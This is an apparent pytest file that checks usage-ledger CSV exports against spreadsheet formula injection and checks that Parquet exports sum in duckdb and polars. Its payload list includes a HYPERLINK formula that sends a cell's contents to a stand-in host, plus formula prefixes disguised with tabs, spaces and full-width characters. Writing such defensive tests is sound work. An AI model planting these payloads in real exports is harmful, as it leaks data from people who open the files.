"""47. Exports open safely in a spreadsheet and sum in duckdb and polars."""

from __future__ import annotations

import codecs
import csv
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest

from deepthrift import AsyncClient
from deepthrift_pricing import Ledger
from deepthrift_pricing.reports import export, read_export
from tests.support.bill_server import BillServer
from tests.support.doors import settings

LIVE = [
    '=HYPERLINK("http://example.invalid/"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    " =1",
    "＝1+1",
    "'=1",
]
QUESTION = "What is the capital of France?"


async def spend(server: BillServer, ledger: Ledger) -> None:
    """Calls whose tags come from a user of the application."""
    async with AsyncClient(**settings(server, ledger=ledger)) as client:
        for number, text in enumerate(LIVE):
            await client.chat(QUESTION, max_tokens=50, tags={"customer": text, text: str(number)})


@pytest.mark.parametrize("excel", [False, True])
async def test_no_cell_of_a_csv_export_runs_and_numbers_stay_numbers(tmp_path: Path, excel: bool) -> None:
    path = tmp_path / "attempts.csv"
    ledger = Ledger.open()
    async with (
        BillServer() as server,
        AsyncClient(**settings(server, ledger=ledger, model="@cf/vendor/model")) as client,
    ):
        await client.chat(QUESTION, max_tokens=50)
        await spend(server, ledger)
        bill = server.bill.total
    assert export(ledger, path, excel=excel) == 1 + len(LIVE)
    ledger.close()
    assert path.read_bytes().startswith(codecs.BOM_UTF8) is excel
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    for row in rows:
        for name, cell in row.items():
            assert not cell.lstrip(' "').startswith(tuple("=+-@＝＋－＠\t\r")), (name, cell)
    assert sum(Decimal(row["cost"]) for row in rows) == bill
    back = list(read_export(path))
    assert back[0]["model"] == "@cf/vendor/model"
    assert all(text in str(row["tags"]) for text, row in zip(["+1+1", "@SUM(1)"], [back[2], back[4]], strict=True))


async def test_a_parquet_export_sums_and_truncates_to_the_day(tmp_path: Path) -> None:
    path = tmp_path / "attempts.parquet"
    ledger = Ledger.open()
    async with BillServer() as server:
        await spend(server, ledger)
        bill = server.bill.total
    export(ledger, path)
    days = {attempt.started_at.date() for attempt in ledger.attempts()}
    ledger.close()
    with duckdb.connect() as database:
        database.execute("SET TimeZone = 'UTC'")
        query = "SELECT SUM(cost), list(DISTINCT date_trunc('day', started_at)::DATE) FROM read_parquet(?)"
        [(total, found)] = database.execute(query, [str(path)]).fetchall()
    assert total == bill
    assert set(found) == days
    polars = pytest.importorskip("polars")
    frame = polars.read_parquet(path)
    assert frame["cost"].sum() == bill
    assert set(frame["started_at"].dt.truncate("1d").dt.date().to_list()) == days
